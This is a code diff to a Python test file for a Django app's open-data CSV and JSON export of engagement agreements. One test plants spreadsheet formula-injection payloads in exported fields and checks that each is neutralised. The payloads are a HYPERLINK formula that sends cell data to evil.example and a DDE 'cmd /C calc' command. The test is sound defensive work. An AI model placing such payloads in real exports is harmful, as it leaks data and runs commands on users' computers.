@@ -24,6 +24,7 @@ from engagements.models import (
     TimelineEvent,
 )
 from engagements.open_data import CSV_COLUMNS, SCHEMA, safe_cell
+from tests.engagements.agreements import bring_into_force
 from tests.engagements.register_data import check_in, finish, published
 from tests.matrix import SET_UP_TWO_FACTOR, assert_matrix
 
@@ -130,13 +131,13 @@ def test_an_ended_agreement_in_the_csv_says_so_with_the_date(client, public):
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, public, start):
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, accepted, lead_a, signatory_x, start):
     hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
-    Engagement.objects.filter(pk=public.engagement_id).update(title=hostile)
-    SharedPurposeVersion.objects.filter(pk=public.purpose_id).update(statement=f"{start}cmd|' /C calc'!A0")
-    public.engagement.movement.__class__.objects.filter(pk=public.engagement.movement_id).update(
-        name=f"{start}SUM(1+1)"
-    )
+    Engagement.objects.filter(pk=accepted.pk).update(title=hostile)
+    # The draft's words, before both sides agree them (agreed words never change).
+    SharedPurposeVersion.objects.filter(engagement=accepted).update(statement=f"{start}cmd|' /C calc'!A0")
+    type(accepted.movement).objects.filter(pk=accepted.movement_id).update(name=f"{start}SUM(1+1)")
+    bring_into_force(accepted, movement_signer=lead_a, institution_signer=signatory_x, publish=True)
     (row,) = csv_rows(client.get(LIST, {"format": "csv"}))
     assert row["title"] == "'" + hostile
     assert row["shared_purpose"] == f"'{start}cmd|' /C calc'!A0"
@@ -177,11 +178,15 @@ def test_an_empty_csv_still_has_its_header(client, db):
 
 def test_json_validates_against_the_documented_schema(client, public, movement_b, way):
     check_in(public, held_on=datetime.date(2026, 3, 20), note="Going well.", statuses={1: "done", 2: "missed"})
-    ended = published(movement=movement_b, institution=public.engagement.institution, model=way, title="Over")
-    finish(ended, Engagement.Status.WITHDRAWN, at=datetime.datetime(2026, 5, 1, 9, 0, tzinfo=datetime.UTC))
-    AgreementVersion.objects.filter(pk=ended.in_force_id).update(
-        keeps_public_voice=False, public_voice_off_reason="Both sides agreed a joint press line."
+    ended = published(
+        movement=movement_b,
+        institution=public.engagement.institution,
+        model=way,
+        title="Over",
+        keeps_public_voice=False,
+        public_voice_off_reason="Both sides agreed a joint press line.",
     )
+    finish(ended, Engagement.Status.WITHDRAWN, at=datetime.datetime(2026, 5, 1, 9, 0, tzinfo=datetime.UTC))
     response = client.get(LIST, {"format": "json"})
     assert response.status_code == 200
     assert response["Content-Type"] == "application/json; charset=utf-8"
